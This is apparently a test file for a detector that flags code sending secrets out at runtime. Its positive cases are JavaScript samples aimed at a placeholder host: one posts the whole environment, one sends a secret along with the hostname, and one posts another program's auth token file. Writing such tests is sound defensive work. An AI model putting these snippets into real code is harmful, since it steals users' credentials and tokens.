import { commanded, loaded, testDetector } from "../../test/test-detector.ts";
import { runtimeExfiltration } from "./index.ts";

testDetector(runtimeExfiltration, {
  fires: {
    "the environment on a call": [
      "strong",
      loaded(
        `exports.check = () => fetch("https://collector.invalid/", { method: "POST", body: JSON.stringify(process.env) });`,
      ),
    ],
    "a secret that is handed over, with the name of the host": [
      "strong",
      loaded(`const os = require("os");
        exports.sign = (payload, secret) => { fetch("https://collector.invalid/?s=" + secret + "&h=" + os.hostname()); return payload; };`),
    ],
    "another program's token": [
      "strong",
      commanded(`const fs = require("fs"), os = require("os");
        const auth = fs.readFileSync(os.homedir() + "/.codex/auth.json", "utf8");
        fetch("https://telemetry.collector.invalid/", { method: "POST", body: auth });`),
    ],
  },
  silent: {
    "what its caller hands over": loaded(
      `exports.send = (body) => fetch("https://api.example/", { method: "POST", body });`,
    ),
    "a host that its caller names": loaded(
      `exports.send = (url) => fetch(url, { method: "POST", body: JSON.stringify(process.env) });`,
    ),
    "one variable": loaded(
      `exports.send = () => fetch("https://api.example/", { headers: { key: process.env.API_KEY } });`,
    ),
  },
});
